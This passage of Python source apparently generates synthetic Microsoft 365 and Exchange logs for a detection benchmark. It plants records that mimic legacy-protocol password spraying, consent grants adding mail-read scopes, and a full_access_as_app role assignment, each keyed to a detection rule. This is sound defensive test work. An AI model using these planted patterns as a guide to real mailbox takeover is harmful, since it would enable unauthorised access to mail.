    ("POST", "/EWS/Exchange.asmx", "-"),
    ("POST", "/owa/service.svc", "action=GetItem&UA=0"),
    ("POST", "/owa/service.svc", "action=FindItem&UA=0"),
    ("POST", "/mapi/emsmdb/", "mailboxId=%s"),
    ("POST", "/Microsoft-Server-ActiveSync/default.eas", "Cmd=Sync&User=%s&DeviceId=%s&DeviceType=iPhone"),
    ("POST", "/Autodiscover/Autodiscover.xml", "-"),
    ("GET", "/OAB/3f0a/oab.xml", "-"),
    ("RPC_IN_DATA", "/rpc/rpcproxy.dll", "mbx01.contoso.example:6001"),
    ("GET", "/ecp/default.aspx", "-"),
]
IIS_UAS = ["Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)",
           "Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.17328)",
           "Apple-iPhone15C2/2104.100", "ExchangeServicesClient/15.02", "python-requests/2.31.0",
           "-"]
RESTART_BYTES = 8 << 20


class Iis(Common):
    def directives(self, ts, xff):
        day = time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(ts))
        return ["#Software: Microsoft Internet Information Services 10.0\r", "#Version: 1.0\r",
                "#Date: %s\r" % day, "#Fields: %s\r" % (IIS_FIELDS_XFF if xff else IIS_FIELDS)]

    def line(self, ts, xff):
        rng = self.rng
        user = rng.choice(self.users)
        method, stem, query = rng.choice(IIS_REQS)
        if "%s" in query:
            query = query % ((user, self.hexs(8)) if query.count("%s") == 2 else (user,))
        who = ("CONTOSO\\" + user) if rng.random() < 0.5 else (user + "@" + DOMAIN)
        if rng.random() < 0.05:
            who = "-"
        day = time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(ts))
        cip = "198.51.100.%d" % rng.randrange(1, 255)
        cells = [day, "192.0.2.10", method, stem, query, "443", who, cip, rng.choice(IIS_UAS),
                 "-", rng.choice(["200", "200", "200", "401", "302"]), "0", "0",
                 str(rng.randrange(1, 2000))]
        if xff:
            cells.append("203.0.113.%d" % rng.randrange(1, 255))
        return " ".join(cells) + "\r"

    def run(self, w, size):
        ts, restarts, next_restart = BASE_EPOCH, 0, 0
        while w.size() < size:
            if w.size() >= next_restart:
                for d in self.directives(ts, restarts % 2 == 1):
                    w.add(d)
                next_restart += RESTART_BYTES
                restarts += 1
            xff = restarts % 2 == 0
            for _ in range(64):
                w.add(self.line(ts, xff))
                ts += 1 if self.rng.random() < 0.5 else 0
        return {}


MT_FIELDS = ("date-time,client-ip,client-hostname,server-ip,server-hostname,source-context,"
             "connector-id,source,event-id,internal-message-id,message-id,network-message-id,"
             "recipient-address,recipient-status,total-bytes,recipient-count,"
             "related-recipient-address,reference,message-subject,sender-address,return-path,"
             "message-info,directionality,tenant-id,original-client-ip,original-server-ip,"
             "custom-data,transport-traffic-type,log-id,schema-version")
MT_EVENTS = [("STOREDRIVER", "RECEIVE"), ("SMTP", "SEND"), ("STOREDRIVER", "DELIVER"),
             ("ROUTING", "REDIRECT"), ("SMTP", "HAREDIRECT"), ("SMTP", "SENDEXTERNAL"),
             ("AGENT", "AGENTINFO"), ("ROUTING", "RESOLVE")]


class MsgTrack(Common):
    def directives(self, ts):
        when = time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(ts))
        return ["#Software: Microsoft Exchange Server\r", "#Version: 15.02.1544.004\r",
                "#Log-Type: Message Tracking Log\r", "#Date: %s\r" % when,
                "#Fields: %s\r" % MT_FIELDS]

    def line(self, ts):
        rng = self.rng
        src, ev = rng.choice(MT_EVENTS)
        sender = rng.choice(self.users) + "@" + DOMAIN
        nrcpt = 1 if rng.random() < 0.8 else rng.randrange(2, 6)
        rcpts = ";".join(rng.choice(self.users) + "@" + DOMAIN for _ in range(nrcpt))
        status = ";".join(["250 2.1.5 Recipient OK"] * nrcpt) if ev == "DELIVER" else ""
        subject = "\"%s %s, %s\"" % (rng.choice(DOC_WORDS).title(), rng.choice(DOC_WORDS),
                                     rng.choice(DOC_WORDS))
        when = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(ts)) + ".%03dZ" % rng.randrange(1000)
        imid = str(73014440000 + rng.randrange(1 << 30))
        cells = [when, "192.0.2.%d" % rng.randrange(1, 255), "MBX01", "192.0.2.30", "EDGE01",
                 "08DC%s;250 2.0.0 OK" % self.hexs(8) if src == "SMTP" else "", "", src, ev,
                 imid, "<%s@mbx01.%s>" % (self.hexs(16), DOMAIN), self.hexs(32), rcpts, status,
                 str(rng.randrange(2000, 90000)), str(nrcpt), "", "", subject, sender, sender,
                 "", "Originating", "", "192.0.2.%d" % rng.randrange(1, 255), "", "", "Email",
                 "", "15.02.1544.004"]
        return ",".join(cells) + "\r"

    def run(self, w, size):
        ts, next_restart = BASE_EPOCH, 0
        while w.size() < size:
            if w.size() >= next_restart:
                for d in self.directives(ts):
                    w.add(d)
                next_restart += RESTART_BYTES
            for _ in range(64):
                w.add(self.line(ts))
                ts += 1 if self.rng.random() < 0.5 else 0
        return {}
# Sources, part 1: Entra sign-ins, Entra directory audit, Exchange admin audit (CSV).
# Shapes: docs/formats/entra_signin.md, entra_audit.md, exchange_admin_audit.md. Each kind has
# its own class; the planted counts are keyed by the id of the rule that must fire.

RULE_SIGNIN = "3f0c6a52-5d1e-4b8e-9a51-1c2f0e7d9b10"  # bench/rules/legacy_signin_failure.yml
RULE_CONSENT = "5b0f3c2e-8d41-4e7a-9c6b-2f1e7a9d4c30"  # rules/azure/consent_mail_scope.yml
RULE_MBXFWD = "7d816fe3-ae5c-475a-b5db-957d688e771d"   # rules/m365/mailbox_forwarding.yml
RULE_RULEFWD = "ba3097c9-1e99-4099-b5e5-1673bea4e9c8"  # rules/m365/inbox_rule_forward.yml
RULE_HIDING = "3da3385c-faa3-4906-88e2-3f40d08d049b"  # rules/m365/inbox_rule_hiding.yml

LEGACY_APPS = ["IMAP4", "POP3", "Authenticated SMTP", "Exchange ActiveSync", "Other clients"]
MODERN_APPS = ["Browser", "Mobile Apps and Desktop clients"]
SIGNIN_APPS = [
    ("00000002-0000-0ff1-ce00-000000000000", "Office 365 Exchange Online"),
    ("4765445b-32c6-49b0-83e6-1d93765276ca", "OfficeHome"),
    ("d3590ed6-52b3-4102-aeff-aad2292ab01c", "Microsoft Office"),
    ("1fec8e78-bce4-4aaf-ab1b-5451cc387264", "Microsoft Teams"),
    ("27922004-5251-4030-b22d-91ecd9a37ea4", "Outlook Mobile"),
    ("00000003-0000-0ff1-ce00-000000000000", "Office 365 SharePoint Online"),
    ("c44b4083-3bb0-49c1-b47d-974e53cbdf3c", "Azure Portal"),
]
SIGNIN_RESOURCES = [
    ("00000002-0000-0ff1-ce00-000000000000", "Office 365 Exchange Online"),
    ("00000003-0000-0000-c000-000000000000", "Microsoft Graph"),
    ("00000003-0000-0ff1-ce00-000000000000", "Office 365 SharePoint Online"),
    ("797f4846-ba00-4fd7-ba43-dac1f8f63013", "Windows Azure Service Management API"),
]
CITIES = [("Seattle", "Washington", "US", 47.6, -122.3), ("London", "England", "GB", 51.5, -0.1),
          ("Berlin", "Berlin", "DE", 52.5, 13.4), ("Paris", "Ile-De-France", "FR", 48.9, 2.35),
          ("Toronto", "Ontario", "CA", 43.7, -79.4), ("Sydney", "New South Wales", "AU", -33.9, 151.2)]
OSES = [("Windows10", "Chrome 124.0.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
         "(KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"),
        ("Windows10", "Edge 124.0.2478", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
         "(KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80"),
        ("MacOs", "Safari 17.4", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
         "(KHTML, like Gecko) Version/17.4 Safari/605.1.15"),
        ("Ios", "Mobile Safari 17.4", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) "
         "AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"),
        ("Windows10", "Rich Client 4.61.0.0", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft "
         "Outlook 16.0.17328; Pro)")]
CA_NAMES = ["Require MFA for admins", "Block legacy authentication", "Require compliant device",
            "Require MFA for Azure management", "Block access from untrusted countries",
            "Require MFA for guests", "Sign-in frequency 12h for unmanaged devices",
            "Require app protection policy on mobile", "Require MFA for risky sign-ins",
            "Require password change for high user risk", "Block device code flow",
            "Require terms of use", "Session: no persistent browser", "Require MFA everywhere",
            "Require hybrid joined device for Exchange", "Report-only: token protection"]
FAIL_CODES = [("50126", "Error validating credentials due to invalid username or password."),
              ("50053", "The account is locked, you've tried to sign in too many times."),
              ("53003", "Access has been blocked by Conditional Access policies."),
              ("50055", "The password is expired.")]


def cjson(obj):
    return json.dumps(obj, separators=(",", ":"))


class EntraCommon(Common):
    """Users, tenant and per-user devices shared by the Entra kinds."""

    def __init__(self, seed):
        super().__init__(seed)
        rng = self.rng
        self.tenant = self.guid()
        self.policies = [(self.guid(), n) for n in CA_NAMES]
        self.people = []
        for i, user in enumerate(self.users):
            city = CITIES[i % len(CITIES)]
            osx = OSES[rng.randrange(len(OSES))]
            self.people.append({
                "upn": "%s@%s" % (user, DOMAIN), "id": self.guid(),
                "name": user.replace(".", " ").title(), "city": city, "os": osx,
                "ip": "198.51.100.%d" % (1 + i % 250), "dev": self.guid(),
                "devname": "LT-%04d" % i, "asn": rng.choice([8075, 3320, 5089, 7922, 1221]),
            })

    def iso_frac(self, ts, digits=7):
        return "%s.%0*dZ" % (self.clock.iso(ts), digits, self.rng.randrange(10 ** digits))

    def run_units(self, w, size, rule, step_max):
        """Background records 0..step_max seconds apart, a planted unit per UNIT_BYTES."""
        rng = self.rng
        units = max(1, size // UNIT_BYTES)
        next_unit, ts = 0, BASE_EPOCH
        expected = {rule: 0}
        while w.size() < size:
            if next_unit < units and w.size() >= next_unit * (size // units):
                lines, exp = self.plant(ts, next_unit)
                for line in lines:
                    w.add(line)
                expected[rule] += exp[rule]
                next_unit += 1
            for _ in range(64):
                w.add(self.background(ts))
                ts += rng.randint(0, step_max)
        return expected


class EntraSignin(EntraCommon):
    """SigninLogs rows (Log Analytics export, PascalCase, dynamic columns as JSON values or JSON
    text as the table types them) or Graph signIn objects (the admin center JSON download)."""

    def __init__(self, seed, graph):
        super().__init__(seed)
        self.graph = graph

    def policies_for(self, app_legacy, ok):
        rng = self.rng
        out = []
        for pid, name in self.policies[:rng.randint(4, 12)]:
            r = rng.random()
            if name == "Block legacy authentication" and app_legacy:
                res, grant = ("failure", ["Block"]) if not ok else ("notApplied", [])
            elif r < 0.55:
                res, grant = "notApplied", []
            elif r < 0.85:
                res, grant = "success", ["Mfa"]
            else:
                res, grant = "reportOnlyNotApplied", []
            out.append({"id": pid, "displayName": name, "enforcedGrantControls": grant,
                        "enforcedSessionControls": ["SignInFrequency"] if "frequency" in name else [],
                        "result": res,
                        "conditionsSatisfied": 3 if res != "notApplied" else 0,
                        "conditionsNotSatisfied": 0 if res != "notApplied" else 1})
        return out

    def record(self, ts, p, app, code, reason, client, ip=None, interactive=True):
        rng = self.rng
        ok = code == "0"
        legacy = client in LEGACY_APPS
        city, state, cc, lat, lon = p["city"]
        osname, browser, ua = p["os"]
        appid, appname = app
        resid, resname = rng.choice(SIGNIN_RESOURCES)
        ip = ip or p["ip"]
        cas = "notApplied" if legacy else ("success" if ok else rng.choice(["failure", "notApplied"]))
        device = {"deviceId": p["dev"] if not legacy else "", "displayName": p["devname"] if not legacy else "",
                  "operatingSystem": osname, "browser": browser if not legacy else "",
                  "isCompliant": not legacy, "isManaged": not legacy,
                  "trustType": "Azure AD joined" if not legacy else ""}
        location = {"city": city, "state": state, "countryOrRegion": cc,
                    "geoCoordinates": {"latitude": lat, "longitude": lon}}
        status = {"errorCode": int(code), "failureReason": reason,
                  "additionalDetails": "MFA requirement satisfied by claim in the token" if ok else None}
        policies = self.policies_for(legacy, ok)
        created = self.iso_frac(ts)
        sid = self.guid()
        if self.graph:
            return cjson({
                "id": self.guid(), "createdDateTime": created[:19] + "Z",
                "userDisplayName": p["name"], "userPrincipalName": p["upn"], "userId": p["id"],
                "appId": appid, "appDisplayName": appname, "ipAddress": ip,
                "clientAppUsed": client, "userAgent": "" if legacy else ua,
                "correlationId": self.guid(), "conditionalAccessStatus": cas,
                "originalRequestId": self.guid(), "isInteractive": interactive,
                "tokenIssuerName": "", "tokenIssuerType": "AzureAD",
                "processingTimeInMilliseconds": rng.randint(40, 900), "riskDetail": "none",
                "riskLevelAggregated": "none", "riskLevelDuringSignIn": "none", "riskState": "none",
                "riskEventTypes": [], "riskEventTypes_v2": [], "resourceDisplayName": resname,
                "resourceId": resid, "authenticationMethodsUsed": [], "sessionId": sid,
                "status": status, "deviceDetail": device, "location": location,
                "mfaDetail": {"authMethod": None, "authDetail": None},
                "appliedConditionalAccessPolicies": policies,
                "authenticationProcessingDetails": [
                    {"key": "Legacy TLS (TLS 1.0, 1.1, 3DES)", "value": "False"},
                    {"key": "Is CAE Token", "value": "False"}],
                "networkLocationDetails": [], "authenticationRequirement": "singleFactorAuthentication",
                "authenticationRequirementPolicies": []})
        auth = [{"authenticationStepDateTime": created, "authenticationMethod": "Password",
                 "authenticationMethodDetail": "Password Hash Sync", "succeeded": ok,
                 "authenticationStepResultDetail": "Correct password" if ok else "Invalid username or password",
                 "authenticationStepRequirement": "Primary authentication", "StatusSequence": 0,
                 "RequestSequence": 1}]
        if ok and not legacy and rng.random() < 0.5:
            auth.append({"authenticationStepDateTime": created, "authenticationMethod": "Mobile app notification",
                         "authenticationMethodDetail": "", "succeeded": True,
                         "authenticationStepResultDetail": "MFA successfully completed",
                         "authenticationStepRequirement": "Secondary authentication",
                         "StatusSequence": 0, "RequestSequence": 2})
        return cjson({
            "TenantId": self.tenant, "SourceSystem": "Azure AD", "TimeGenerated": self.iso_frac(ts + 3),
            "ResourceId": "/tenants/%s/providers/Microsoft.aadiam" % self.tenant,
            "OperationName": "Sign-in activity", "OperationVersion": "1.0", "Category": "SignInLogs",
            "ResultType": code, "ResultSignature": "None", "ResultDescription": reason,
            "DurationMs": 0, "CorrelationId": self.guid(), "Resource": "Microsoft.aadiam",
            "ResourceGroup": "Microsoft.aadiam", "ResourceProvider": "Microsoft.aadiam",
            "Identity": p["name"], "Level": "4", "Location": cc, "AlternateSignInName": p["upn"],
            "AppDisplayName": appname, "AppId": appid,
            "AuthenticationContextClassReferences": "[]",
            "AuthenticationDetails": cjson(auth),
            "AuthenticationProcessingDetails": [
                {"key": "Legacy TLS (TLS 1.0, 1.1, 3DES)", "value": "False"},
                {"key": "Oauth Scope Info", "value": "[\"offline_access\",\"openid\",\"profile\"]"},
                {"key": "Is CAE Token", "value": "False"}],
            "AuthenticationProtocol": "none", "AuthenticationRequirement": "singleFactorAuthentication",
            "AuthenticationRequirementPolicies": "[]", "AutonomousSystemNumber": p["asn"],
            "ClientAppUsed": client, "ConditionalAccessPolicies": policies,
            "ConditionalAccessStatus": cas, "CreatedDateTime": created,
            "CrossTenantAccessType": "none", "DeviceDetail": device, "HomeTenantId": self.tenant,
            "IncomingTokenType": "none", "IPAddress": ip, "IsInteractive": interactive,
            "IsRisky": False, "LocationDetails": location,
            "MfaDetail": {} if not ok else {"authMethod": "Mobile app notification"},
            "NetworkLocationDetails": "[]", "OriginalRequestId": self.guid(),
            "ProcessingTimeInMilliseconds": str(rng.randint(40, 900)), "RiskDetail": "none",
            "RiskEventTypes": "[]", "RiskEventTypes_V2": "[]", "RiskLevelAggregated": "none",
            "RiskLevelDuringSignIn": "none", "RiskState": "none", "ResourceDisplayName": resname,
            "ResourceIdentity": resid, "ServicePrincipalId": "", "SessionLifetimePolicies": "[]",
            "SessionId": sid, "Status": status, "TokenIssuerName": "", "TokenIssuerType": "AzureAD",
            "UniqueTokenIdentifier": self.hexs(22), "UserAgent": "" if legacy else ua,
            "UserDisplayName": p["name"], "UserId": p["id"], "UserPrincipalName": p["upn"],
            "UserType": "Member", "Type": "SigninLogs"})

    def background(self, ts):
        rng = self.rng
        p = rng.choice(self.people)
        r = rng.random()
        if r < 0.85:
            code, reason = "0", ""
        elif r < 0.93:
            code, reason = rng.choice([("50074", "Strong Authentication is required."),
                                       ("50140", "This error occurred due to 'Keep me signed in' interrupt.")])
        else:
            code, reason = rng.choice(FAIL_CODES)
        # Legacy clients only ever succeed in the background: every legacy failure is planted.
        client = rng.choice(MODERN_APPS) if code != "0" or rng.random() < 0.9 else rng.choice(LEGACY_APPS)
        return self.record(ts, p, rng.choice(SIGNIN_APPS), code, reason, client,
                           interactive=rng.random() < 0.6)

    def plant(self, ts, unit):
        p = self.people[(unit * 7) % len(self.people)]
        bad = "185.220.101.%d" % (1 + unit % 250)
        exo = SIGNIN_APPS[0]
        cases = [  # (hit, client, code, reason)
            (1, "IMAP4", "50126", FAIL_CODES[0][1]), (1, "POP3", "50126", FAIL_CODES[0][1]),
            (1, "Authenticated SMTP", "50053", FAIL_CODES[1][1]),
            (1, "Exchange ActiveSync", "53003", FAIL_CODES[2][1]),
            (1, "Other clients", "50126", FAIL_CODES[0][1]),
            (0, "IMAP4", "0", ""), (0, "IMAP4", "50074", "Strong Authentication is required."),
            (0, "POP3", "50140", "This error occurred due to 'Keep me signed in' interrupt."),
            (0, "Browser", "50126", FAIL_CODES[0][1]), (0, "Exchange Web Services", "0", ""),
        ]
        lines, hits = [], 0
        for i, (hit, client, code, reason) in enumerate(cases):
            lines.append(self.record(ts + i, p, exo, code, reason, client, ip=bad))
            hits += hit
        return lines, {RULE_SIGNIN: hits}

    def run(self, w, size):
        return self.run_units(w, size, RULE_SIGNIN, 3)


class ArrayWriter(Writer):
    """A top-level JSON array, one element per line: "[", "{...},", ..., "{...}", "]"."""

    def __init__(self, path, limit):
        super().__init__(path, limit)
        self.last = None
        super().add("[")

    def add(self, line):
        if self.last is not None:
            super().add(self.last + ",")
        self.last = line

    def close(self):
        if self.last is not None:
            super().add(self.last)
        super().add("]")
        super().close()


AUDIT_BENIGN_SCOPES = ["User.Read", "openid profile User.Read", "User.Read offline_access",
                       "Files.Read.All Sites.Read.All", "Calendars.Read User.Read"]
GRAPH_SP = ("00000003-0000-0000-c000-000000000000", "Microsoft Graph")
EXO_SP = ("00000002-0000-0ff1-ce00-000000000000", "Office 365 Exchange Online")


class EntraAudit(EntraCommon):
    """AuditLogs table rows (JSON Lines; InitiatedBy, TargetResources and AdditionalDetails as
    JSON text, as the table types them)."""

    def __init__(self, seed):
        super().__init__(seed)
        self.sps = {GRAPH_SP[0]: self.guid(), EXO_SP[0]: self.guid()}
        self.apps = [(self.guid(), self.guid(), "Contoso %s" % n) for n in
                     ("Expenses", "Travel", "CRM Connector", "Wiki", "Survey Tool", "Signature Manager")]

    @staticmethod
    def mp(name, old, new):
        """A modifiedProperty: values are JSON text (scalars quoted), null when absent."""
        return {"displayName": name, "oldValue": None if old is None else json.dumps(old),
                "newValue": None if new is None else json.dumps(new)}

    def row(self, ts, op, category, service, result, actor, targets, details, optype="Update"):
        corr = self.guid()
        return cjson({
            "TenantId": self.tenant, "SourceSystem": "Azure AD", "TimeGenerated": self.iso_frac(ts + 2),
            "ResourceId": "/tenants/%s/providers/Microsoft.aadiam" % self.tenant,
            "OperationName": op, "OperationVersion": "1.0", "Category": category,
            "ResultType": "", "ResultSignature": "None", "ResultDescription": "",
            "DurationMs": 0, "CorrelationId": corr, "Resource": "Microsoft.aadiam",
            "ResourceGroup": "Microsoft.aadiam", "ResourceProvider": "",
            "Identity": actor["name"] if actor else "", "Level": 4, "Location": "",
            "AADOperationType": optype, "ActivityDateTime": self.iso_frac(ts),
            "ActivityDisplayName": op, "AdditionalDetails": cjson(details),
            "AADTenantId": self.tenant,
            "Id": "Directory_%s_%s_%d" % (corr, self.hexs(5).upper(), self.rng.randint(10 ** 7, 10 ** 8)),
            "InitiatedBy": cjson({"user": {"id": actor["id"], "displayName": None,
                                           "userPrincipalName": actor["upn"], "ipAddress": actor["ip"],
                                           "roles": []}} if actor else
                                 {"app": {"appId": None, "displayName": "Microsoft Substrate Management",
                                          "servicePrincipalId": self.guid(),
                                          "servicePrincipalName": None}}),
            "LoggedByService": service, "Result": result, "ResultReason": "",
            "TargetResources": cjson(targets), "Type": "AuditLogs"})

    def grant(self, ts, actor, app, resource, old, new, result="success", consent="Principal"):
        sp_id, app_id, app_name = app
        res_app, res_name = resource
        mps = [self.mp("DelegatedPermissionGrant.Scope", None if old is None else " " + old, " " + new),
               self.mp("DelegatedPermissionGrant.ConsentType", consent, consent),
               self.mp("ServicePrincipal.ObjectID", None, sp_id),
               self.mp("ServicePrincipal.AppId", None, None),
               self.mp("TargetId.ServicePrincipalNames", None, "%s;https://graph.microsoft.com" % res_app)]
        targets = [{"id": self.sps[res_app], "displayName": res_name, "type": "ServicePrincipal",
                    "modifiedProperties": mps, "administrativeUnits": []},
                   {"id": sp_id, "displayName": None, "type": "ServicePrincipal",
                    "modifiedProperties": [], "administrativeUnits": []}]
        return self.row(ts, "Add delegated permission grant", "ApplicationManagement", "Core Directory",
                        result, actor, targets, [{"key": "AppId", "value": res_app}], optype="Assign")

    def approle(self, ts, actor, app, value, result="success"):
        sp_id, app_id, app_name = app
        mps = [self.mp("AppRole.Id", None, self.guid()), self.mp("AppRole.Value", None, value),
               self.mp("AppRole.DisplayName", None, "Use Exchange Web Services with full access to all mailboxes"
                       if value == "full_access_as_app" else value),
               self.mp("ServicePrincipal.ObjectID", None, sp_id),
               self.mp("ServicePrincipal.DisplayName", None, app_name),
               self.mp("ServicePrincipal.AppId", None, app_id)]
        targets = [{"id": self.sps[EXO_SP[0]], "displayName": EXO_SP[1], "type": "ServicePrincipal",
                    "modifiedProperties": mps, "administrativeUnits": []}]
        return self.row(ts, "Add app role assignment to service principal", "ApplicationManagement",
                        "Core Directory", result, actor, targets,
                        [{"key": "User-Agent", "value": OSES[0][2]}, {"key": "AppId", "value": EXO_SP[0]}],
                        optype="Assign")

    def consent(self, ts, actor, app, scopes):
        sp_id, app_id, app_name = app
        perms = ("[] => [[Id: %s, ClientId: %s, PrincipalId: %s, ResourceId: %s, ConsentType: Principal, "
                 "Scope:  %s, CreatedDateTime: , LastModifiedDateTime ]]; "
                 % (self.hexs(43), sp_id, actor["id"], self.sps[GRAPH_SP[0]], scopes))
        mps = [self.mp("ConsentContext.IsAdminConsent", None, "False"),
               self.mp("ConsentContext.IsAppOnly", None, "False"),
               self.mp("ConsentContext.OnBehalfOfAll", None, "False"),
               self.mp("ConsentContext.Tags", None, "WindowsAzureActiveDirectoryIntegratedApp"),
               self.mp("ConsentAction.Permissions", None, perms),
               self.mp("TargetId.ServicePrincipalNames", None, app_id)]
        targets = [{"id": sp_id, "displayName": app_name, "type": "ServicePrincipal",
                    "modifiedProperties": mps, "administrativeUnits": []}]
        return self.row(ts, "Consent to application", "ApplicationManagement", "Core Directory",
                        "success", actor, targets, [{"key": "User-Agent", "value": OSES[0][2]}],
                        optype="Assign")

    def background(self, ts):
        rng = self.rng
        p = rng.choice(self.people)
        q = rng.choice(self.people)
        r = rng.random()
        if r < 0.35:
            mps = [self.mp("StsRefreshTokensValidFrom", ["2025-01-01T00:00:00Z"], [self.clock.iso(ts) + "Z"]),
                   self.mp("LastDirSyncTime", ["2025-01-01T00:00:00Z"], [self.clock.iso(ts) + "Z"]),
                   self.mp("Included Updated Properties", None, "StsRefreshTokensValidFrom, LastDirSyncTime")]
            return self.row(ts, "Update user", "UserManagement", "Core Directory", "success",
                            None, [{"id": q["id"], "displayName": None, "type": "User",
                                    "userPrincipalName": q["upn"], "modifiedProperties": mps,
                                    "administrativeUnits": []}],
                            [{"key": "UserType", "value": "Member"}])
        if r < 0.55:
            group = "SG-%s" % rng.choice(["Sales", "Finance", "Engineering", "VPN Users", "All Staff"])
            gid = self.guid()
            mps = [self.mp("Group.ObjectID", None, gid), self.mp("Group.DisplayName", None, group),
                   self.mp("Group.WellKnownObject", None, None)]
            return self.row(ts, "Add member to group", "GroupManagement", "Core Directory", "success", p,
                            [{"id": q["id"], "displayName": None, "type": "User", "userPrincipalName": q["upn"],
                              "modifiedProperties": mps, "administrativeUnits": []},
                             {"id": gid, "displayName": None, "type": "Group", "groupType": "unknownFutureValue",
                              "modifiedProperties": [], "administrativeUnits": []}], [])
        if r < 0.70:
            mps = [self.mp("ApproximateLastLogonTimestamp", ["2025-02-01T00:00:00Z"],
                           [self.clock.iso(ts) + "Z"]),
                   self.mp("Included Updated Properties", None, "ApproximateLastLogonTimestamp")]
            return self.row(ts, "Update device", "Device", "Core Directory", "success", None,
                            [{"id": self.guid(), "displayName": q["devname"], "type": "Device",
                              "modifiedProperties": mps, "administrativeUnits": []}],
                            [{"key": "DeviceId", "value": q["dev"]}, {"key": "DeviceOSType", "value": "Windows"},
                             {"key": "DeviceTrustType", "value": "AzureAd"}])
        if r < 0.80:
            return self.row(ts, "Reset password (self-service)", "UserManagement",
                            "Self-service Password Management", rng.choice(["success", "failure"]), p,
                            [{"id": p["id"], "displayName": p["name"], "type": "User",
                              "userPrincipalName": p["upn"], "modifiedProperties": [],
                              "administrativeUnits": []}], [])
        if r < 0.90:
            # benign delegated grants: no mail scope is added
            old = rng.choice([None, "User.Read", "openid profile User.Read"])
            new = rng.choice(AUDIT_BENIGN_SCOPES)
            if old is not None:
                new = old + " Calendars.Read"
            return self.grant(ts, p, rng.choice(self.apps), GRAPH_SP, old, new)
        if r < 0.95:
            return self.consent(ts, p, rng.choice(self.apps), rng.choice(AUDIT_BENIGN_SCOPES))
        sp_id, app_id, app_name = rng.choice(self.apps)
        mps = [self.mp("AppAddress", None, [{"AddressType": 0, "Address": "https://%s.example/" % self.hexs(6)}]),
               self.mp("AppId", None, app_id), self.mp("DisplayName", None, app_name),
               self.mp("Included Updated Properties", None, "AppAddress, AppId, DisplayName")]
        return self.row(ts, "Add service principal", "ApplicationManagement", "Core Directory", "success",
                        p, [{"id": sp_id, "displayName": app_name, "type": "ServicePrincipal",
                             "modifiedProperties": mps, "administrativeUnits": []}], [], optype="Add")

    def plant(self, ts, unit):
        p = self.people[(unit * 11) % len(self.people)]
        app = (self.guid(), self.guid(), "Mail Sync Pro %d" % unit)
        lines = [
            self.consent(ts, p, app, "User.Read Mail.Read offline_access"),                  # no: consent
            self.grant(ts + 1, p, app, GRAPH_SP, None, "User.Read Mail.Read offline_access"),  # hit
            self.grant(ts + 2, p, app, GRAPH_SP, "User.Read", "User.Read Mail.ReadWrite",
                       consent="AllPrincipals"),                                                # hit
            self.approle(ts + 3, p, app, "full_access_as_app"),                                 # hit
            self.grant(ts + 4, p, app, GRAPH_SP, "Mail.Read", "Mail.Read Calendars.Read"),      # no: held
            self.grant(ts + 5, p, app, GRAPH_SP, None, "Mail.Read", result="failure"),          # no: failed
            self.grant(ts + 6, p, app, GRAPH_SP, None, "Mail.Send User.Read"),                  # no: scope
            self.approle(ts + 7, p, app, "Calendars.Read"),                                     # no: scope
        ]
        return lines, {RULE_CONSENT: 3}

    def run(self, w, size):
        return self.run_units(w, size, RULE_CONSENT, 4)


EXADMIN_SERVERS = ["MBX01 (15.02.1544.004)", "MBX02 (15.02.1544.004)", "MBX03 (15.02.1258.012)"]


class ExchangeAdminAudit(Common):
    """Search-AdminAuditLog | Select ... @{n='CmdletParameters';e={...}} | Export-Csv, Windows
    PowerShell 5.1: a #TYPE line, every field quoted, CRLF, en-US RunDate, newest first."""

    HEADER = ('"RunDate","Caller","CmdletName","ObjectModified","CmdletParameters","Succeeded",'
              '"Error","OriginatingServer","ExternalAccess","ObjectState","RunspaceId","Identity"')

    def __init__(self, seed):
        super().__init__(seed)
        self.runspace = [self.guid() for _ in range(8)]

    @staticmethod
    def q(text):
        return '"%s"' % text.replace('"', '""')

    def rundate(self, ts):
        tm = time.gmtime(ts)
        hour = tm.tm_hour % 12 or 12
        return "%d/%d/%d %d:%02d:%02d %s" % (tm.tm_mon, tm.tm_mday, tm.tm_year, hour, tm.tm_min,
                                             tm.tm_sec, "AM" if tm.tm_hour < 12 else "PM")

    def row(self, ts, caller, cmdlet, obj, params, ok=True, error="None"):
        rng = self.rng
        sep = "; " if rng.random() < 0.9 else ", "
        text = sep.join("%s=%s" % kv for kv in params)
        ident = "%s\\%s" % (DOMAIN.split(".")[0].upper(), self.hexs(8))
        return ",".join(self.q(c) for c in (
            self.rundate(ts), caller, cmdlet, obj, text, "True" if ok else "False", error,
            rng.choice(EXADMIN_SERVERS), "False", "Unchanged", rng.choice(self.runspace),
            "AAMkAD%s" % ident)) + "\r"

    def background(self, ts):
        rng = self.rng
        user = rng.choice(self.users)
        obj = "%s/Users/%s" % (DOMAIN, user)
        admin = "%s/Users/%s" % (DOMAIN, rng.choice(["Administrator", "svc-exchange", "helpdesk01"]))
        r = rng.random()
        if r < 0.25:
            return self.row(ts, admin, "Set-Mailbox", obj,
                            [("Identity", user), ("RetainDeletedItemsFor", "30.00:00:00"),
                             ("ProhibitSendQuota", "49 GB (52,613,349,376 bytes)"),
                             ("IssueWarningQuota", "48 GB (51,539,607,552 bytes)")])
        if r < 0.40:
            return self.row(ts, admin, "Add-MailboxPermission", obj,
                            [("Identity", user), ("User", "%s\\%s" % (DOMAIN.split(".")[0].upper(),
                                                                      rng.choice(self.users))),
                             ("AccessRights", "FullAccess"), ("InheritanceType", "All"),
                             ("AutoMapping", "False")])
        if r < 0.55:
            return self.row(ts, admin, "Set-CASMailbox", obj,
                            [("Identity", user), ("ActiveSyncEnabled", rng.choice(["True", "False"])),
